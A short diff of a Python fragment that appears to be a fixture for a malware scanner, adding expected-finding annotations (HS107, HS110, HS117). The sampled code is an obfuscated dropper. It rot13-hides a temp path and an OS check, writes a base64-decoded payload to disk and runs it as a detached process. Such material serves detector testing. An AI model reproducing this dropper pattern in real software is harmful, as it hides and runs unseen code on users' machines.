@@ -34,7 +34,7 @@ def cert_acc():
     else:
         path = codecs.decode("/gzc/eronfr.gzc", "rot13")
     with open(path, "w") as f:
-        f.write(base64.b64decode(req_self).decode())
+        f.write(base64.b64decode(req_self).decode())  # expect: HS117 high
     if os_name == codecs.decode("Jvaqbjf", "rot13"):
         subprocess.Popen([sys.executable, path], creationflags=subprocess.DETACHED_PROCESS)  # expect: HS107 critical, HS110 high
     else:
